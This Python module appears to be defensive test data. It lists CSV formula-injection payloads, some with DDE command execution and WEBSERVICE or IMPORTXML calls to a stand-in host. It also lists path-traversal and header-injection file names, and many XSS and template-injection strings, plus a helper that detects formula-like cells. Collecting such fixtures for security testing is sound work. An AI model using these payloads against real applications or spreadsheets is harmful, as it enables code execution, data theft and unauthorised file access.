"""Texts that attack whoever shows, stores or sends them on; none twice in a table."""

import re
import unicodedata

# What a spreadsheet program may take for a formula, a link or a command.
_CALLS = (
    "1+1", "SUM(A1:A9)", "A1", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "HYPERLINK(\"http://evil.test/\",\"x\")", "WEBSERVICE(\"http://evil.test/\")",
    "IMPORTXML(\"http://evil.test/\";\"//a\")",
)
FORMULAS = (
    *(f"{mark}{call}" for mark in "=+-@" for call in _CALLS),
    *(f"{blank}=1+1" for blank in (
        " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2003", "\u200b", "\u200e",
        "\ufeff", "\x01", "\x0b", "\u2028", "\u3000", "\u202e",
    )),
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\u22121+1|cmd",
    "=", "+", "-", "@", "--1", "+-1", "=-1", "+1*1", "-2-3", "-1+1|cmd",
    "=\"a\"", "={1}", "=1;2", "@SUM(1)", "\t1", "\r1", "=1\n=2", "-x", "+x",
    "=HYPERLINK(\"mailto:x@evil.test\")", "=IMAGE(\"http://evil.test/x.png\")",
    "=RTD(\"x\";;\"y\")", "=CALL(\"kernel32\",\"WinExec\")", "=cmd|'/c x'!_xlbgnm.A1",
)
# Shown as links by writers that look for them.
LINKS = (
    "http://evil.test/", "https://evil.test/x", "ftp://evil.test/",
    "mailto:x@evil.test",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///etc/passwd",
)



def formula_of(text):
    """What a spreadsheet program would take ``text`` of a CSV for, "" if for text.

    By the start of the text, whatever spaces and marks without width stand before it;
    a signed number is none.
    """
    kept = unicodedata.normalize("NFKC", text)
    while kept and unicodedata.category(kept[0])[0] in "ZC":
        kept = kept[1:]
    if re.fullmatch(r"[+-][0-9][0-9 ]*(?:[.,:][0-9]+)?", kept):
        return ""
    return kept if kept[:1] in tuple("=+-@") or text[:1] in tuple("\t\r\n") else ""


# What a file must not be called, or not where it is told to be.
NAMES = (
    "../x", "../../etc/passwd", "..\\..\\x", "..", ".", "...", "....//x", "./x", "~/x",
    "/etc/passwd", "//host/share", "\\\\host\\share", "C:\\x", "C:x", "c:/x", "/",
    "\\", "a/../b", "a\\..\\b", "x/", "x/..", "%2e%2e%2f", "%2e%2e/x", "..%2fx",
    "%252e%252e%252f", "..%c0%afx", "\u2025/x", "\uff0e\uff0e\uff0fx", "\u2215x",
    "a\x00b", "\x00", "a.pdf\x00.exe", "a\rb", "a\nb", "a\r\nX-Evil: 1",
    "a\r\n\r\n<html>", "a\x85b", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x7fb",
    "a\x1bb", "a\tb", 'a"b', "a'b", "a;b", 'a"; filename="b.exe', "a\\", "a\\\"b",
    "a,b", "a=b", "a%b", "a%0d%0ab", "=?utf-8?q?x?=", "a*b", "a?b", "a<b>c", "a|b",
    "a:b", "a::$DATA",
    "x" * 300, "\u00e9" * 300, "\U0001f600" * 300, "a" * 250 + ".exe",
    "\u202egpj.exe", "a\u202eb", "\u2066x\u2069", "\u200fx", "\ufeffx", "a\u200bb",
    "CON", "con", "PRN", "AUX", "NUL", "nul.txt", "COM1", "com9.x", "LPT1", "LPT9",
    "CON ", "CONIN$", "CONOUT$", "COM\u00b9", "-rf", "--help", "-", " x", "x ", "x.",
    ".x", " . ", "", " ", "$(x)", "`x`", "$HOME", "{{ x }}", "<script>", "\ud800",
)

# What a browser may run, or load from elsewhere. U is an address of somebody else.
_EVENTS = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart onbegin"
    " ontoggle onpointerenter onscroll onwheel oncut onpaste oninput onpageshow"
).split()
_RUN = "window.xssHit=1,alert(1)"
SCRIPTS = (
    *(f"{close}<script>{_RUN}</script>" for close in (
        "", ">", '">', "'>", "</td>", "</title>", "</textarea>", "</style>",
    "</script>",
        "-->", "]]>", "</template>", "</noscript>", "</iframe>", "</option></select>",
        "`>", "\\\">", "&#34;>", "\x00", "</xmp>",
    )),
    *(f"<img src=x {event}={_RUN}>" for event in _EVENTS),
    *(f'<svg {event}="{_RUN}"><g {event}="{_RUN}"/></svg>' for event in _EVENTS),
    *(f"<body {event}={_RUN}>" for event in ("onload", "onpageshow", "onfocus")),
    *(f'" {event}="{_RUN}" autofocus x="' for event in _EVENTS),
    *(f"' {event}='{_RUN}' autofocus x='" for event in _EVENTS),
    *(f"<{tag} src=U></{tag}>" for tag in (
        "img", "iframe", "script", "embed", "video", "audio", "input type=image",
        "frame", "source", "track",
    )),
    "<img srcset='U 1x'>", "<link rel=stylesheet href=U>", "<object data=U></object>",
    "<style>@import 'U';</style>", "<style>*{background:url(U)}</style>",
    "<p style='background:url(U)'>x</p>", "<p style=\"list-style:url('U')\">x</p>",
    "<base href=U>", "<meta http-equiv=refresh content='0;url=U'>",
    "<svg><image href=U /></svg>", "<svg><use href='U#x'/></svg>",
    "<svg><style>@import 'U';</style></svg>", "<table background=U><td>x</table>",
    "<video poster=U></video>", "<form action=U><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>", "javascript:alert(1)",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<math><mtext><img src=U></mtext></math>", "<noscript><img src=U></noscript>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", "<svg/onload=alert(1)>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<keygen autofocus onfocus={_RUN}>",
    f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x OnErRoR={_RUN}>", "<<script>alert(1)//",
    "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=\\u0061lert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)",
    "<t t-out='alert(1)'/>", "<t t-call='web.layout'/>", "<p t-att-onclick='1'>x</p>",
    "${alert(1)}", "#{alert(1)}", "{{ constructor.constructor('alert(1)')() }}",
    "{{ 7 | times: 191 }}", "{% for i in (1..9) %}x{% endfor %}", "<%= alert(1) %>",
    "</p><img src=U>", "<!--><img src=U>-->", "<![CDATA[<img src=U>]]>",
    "<?xml-stylesheet href='U'?>", "<a href=U ping=U>x</a>",
    "<portal src=U></portal>", "<dialog open><img src=U></dialog>",
    "<svg><foreignObject><img src=U></foreignObject></svg>",
    "<svg><script href=U /></svg>", "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(U)'>x</div>", "<img lowsrc=U dynsrc=U>",
)
